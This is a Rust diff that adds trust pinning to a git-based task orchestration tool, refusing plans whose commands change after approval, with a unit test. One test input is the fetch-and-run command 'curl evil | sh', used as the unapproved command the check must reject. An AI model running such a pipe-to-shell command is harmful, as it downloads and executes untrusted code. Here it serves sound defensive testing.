@@ -204,3 +204,76 @@ fn differences(old: &Plan, new: &Plan) -> Vec<String> {
     }
     out
 }
+
+/// The plans this process checked trust for: name → (plan blob, commands
+/// hash). See [`pin`].
+static PINNED: std::sync::OnceLock<
+    std::sync::Mutex<std::collections::HashMap<String, (Oid, String)>>,
+> = std::sync::OnceLock::new();
+
+/// Pins the plan a command checked trust for (`crate::trust::require`):
+/// every later load in this process of a state of `plan` whose plan has
+/// other commands is refused, so a state branch that another clone's fetch
+/// moves in the middle of a run cannot slip other commands in.
+pub fn pin(plan: &str, blob: Oid, commands_hash: String) {
+    let pins = PINNED.get_or_init(Default::default);
+    if let Ok(mut p) = pins.lock() {
+        p.insert(plan.to_string(), (blob, commands_hash));
+    }
+}
+
+/// Checks a loaded plan against the pin, if any. The blob decides at no
+/// cost; only another blob (a state format rewrite) is hashed.
+pub fn check_pinned(plan_name: &str, blob: Oid, plan: &Plan) -> Result<()> {
+    let Some(pins) = PINNED.get() else {
+        return Ok(());
+    };
+    let Some((pinned, hash)) = pins.lock().ok().and_then(|p| p.get(plan_name).cloned()) else {
+        return Ok(());
+    };
+    if pinned == blob || plan.commands_hash() == hash {
+        return Ok(());
+    }
+    Err(crate::error::refuse_with_hint(
+        format!(
+            "plan `{plan_name}` changed while this command ran: its state branch now holds a plan with other commands (plan.json {}), which were not approved",
+            crate::git::short(blob)
+        ),
+        format!("see what it would run and approve it: `git orch trust {plan_name}`"),
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn plan(gate: &str) -> Plan {
+        let text = format!(
+            "name = \"pinned\"\n[[gates]]\nname = \"g\"\nrun = \"{gate}\"\n[[phases]]\nid = \"one\"\n[[phases.tasks]]\nid = \"t\"\n"
+        );
+        crate::plan::load_str(&text, crate::plan::Format::Toml)
+            .map(|(p, _)| p)
+            .expect("plan")
+    }
+
+    #[test]
+    fn a_pinned_plan_refuses_a_load_whose_commands_differ() {
+        let (one, two) = (Oid::from_bytes(&[1; 20]), Oid::from_bytes(&[2; 20]));
+        let (one, two) = (one.expect("oid"), two.expect("oid"));
+        let trusted = plan("make test");
+        // Nothing pinned: anything loads.
+        assert!(check_pinned("pinned-test", two, &plan("evil")).is_ok());
+        pin("pinned-test", one, trusted.commands_hash());
+        assert!(check_pinned("pinned-test", one, &trusted).is_ok());
+        // Another blob with the same commands (a format rewrite) loads.
+        assert!(check_pinned("pinned-test", two, &trusted).is_ok());
+        let err = check_pinned("pinned-test", two, &plan("curl evil | sh"))
+            .expect_err("other commands are refused");
+        assert!(
+            err.to_string().contains("plan `pinned-test` changed"),
+            "{err}"
+        );
+        // Other plans are not pinned by it.
+        assert!(check_pinned("other", two, &plan("evil")).is_ok());
+    }
+}
